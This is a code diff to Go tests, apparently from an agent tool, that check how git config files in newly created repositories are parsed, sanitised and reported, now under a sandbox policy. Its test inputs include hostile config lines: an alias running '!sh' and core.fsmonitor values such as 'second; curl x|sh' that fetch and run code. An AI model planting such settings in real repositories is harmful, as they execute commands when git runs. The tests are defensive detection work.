@@ -13,6 +13,7 @@ import (
 	"github.com/agentls/agentls/agentproto"
 	"github.com/agentls/agentls/permission"
 	"github.com/agentls/agentls/questions"
+	"github.com/agentls/agentls/sandbox"
 )
 
 // newRepoConfigRows are configuration texts of a new repository and the
@@ -48,7 +49,7 @@ func TestNewRepoConfigReported(t *testing.T) {
 	requireGit(t)
 	for _, row := range newRepoConfigRows {
 		t.Run(row.name, func(t *testing.T) {
-			got := readNewRepoConfig([]byte(row.text), nil)
+			got := readNewRepoConfig([]byte(row.text), sandbox.Policy{})
 			if got.unreadable != "" {
 				t.Fatalf("unreadable: %s", got.unreadable)
 			}
@@ -58,24 +59,24 @@ func TestNewRepoConfigReported(t *testing.T) {
 			if row.flagged == nil {
 				return
 			}
-			before, _ := gitListConfig([]byte(row.text), nil)
+			before, _ := gitListConfig([]byte(row.text), sandbox.Policy{})
 			var want []configEntry
 			for _, e := range before {
 				if allowedNewRepoKey(e.key) {
 					want = append(want, e)
 				}
 			}
-			again, err := gitListConfig(got.clean, nil)
+			again, err := gitListConfig(got.clean, sandbox.Policy{})
 			if err != nil || !slices.Equal(again, want) {
 				t.Errorf("rewritten as %q: git lists %v (%v), want %v", got.clean, again, err, want)
 			}
 		})
 	}
-	bad := readNewRepoConfig([]byte("[core\n\tfsmonitor = x\n"), nil)
+	bad := readNewRepoConfig([]byte("[core\n\tfsmonitor = x\n"), sandbox.Policy{})
 	if bad.unreadable == "" {
 		t.Errorf("a config git cannot read is not reported as such: %+v", bad)
 	}
-	what, settings, clean := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte("[alias \"x`y\"]\n\tz = !sh\n[core]\n\tfsmonitor = x\n\tbare = false\n\tpager\n")}, nil)
+	what, settings, clean := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte("[alias \"x`y\"]\n\tz = !sh\n[core]\n\tfsmonitor = x\n\tbare = false\n\tpager\n")}, sandbox.Policy{})
 	if what != "created with settings beyond git's own (alias.x?y.z, core.fsmonitor, core.pager)" || clean == nil ||
 		!slices.Equal(settings, []string{"alias.x`y.z = !sh", "core.fsmonitor = x", "core.pager (no value: true)"}) {
 		t.Errorf("described as %q, settings %q (clean %v)", what, settings, clean)
@@ -97,7 +98,7 @@ func TestNewRepoConfigShowsEverySetting(t *testing.T) {
 		}
 		fmt.Fprintf(&text, "[x%d]\n\tk = v%d\n", i, i)
 	}
-	what, settings, _ := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte(text.String())}, nil)
+	what, settings, _ := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte(text.String())}, sandbox.Policy{})
 	shown := what + "\n" + strings.Join(settings, "\n")
 	for _, want := range []string{"core.fsmonitor = /opt/evil/fsmon --watch", "core.fsmonitor = second; curl x|sh", "x12.k = v12", "x1.k = v1"} {
 		if !strings.Contains(shown, want) {
@@ -138,7 +139,7 @@ func FuzzNewRepoConfig(f *testing.F) {
 		if _, err := exec.LookPath("git"); err != nil || len(text) > 4096 {
 			t.Skip()
 		}
-		got := readNewRepoConfig([]byte(text), nil)
+		got := readNewRepoConfig([]byte(text), sandbox.Policy{Mode: sandbox.ModeOff}) // the rendering, not the sandbox: TestNewRepoListingConfined
 		file := filepath.Join(t.TempDir(), "config")
 		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
 			t.Fatal(err)
@@ -178,7 +179,7 @@ func FuzzNewRepoConfig(f *testing.F) {
 			}
 		}
 		if got.clean != nil {
-			again, err := gitListConfig(got.clean, nil)
+			again, err := gitListConfig(got.clean, sandbox.Policy{Mode: sandbox.ModeOff})
 			if err != nil {
 				t.Fatalf("the rewritten %q: %v", got.clean, err)
 			}
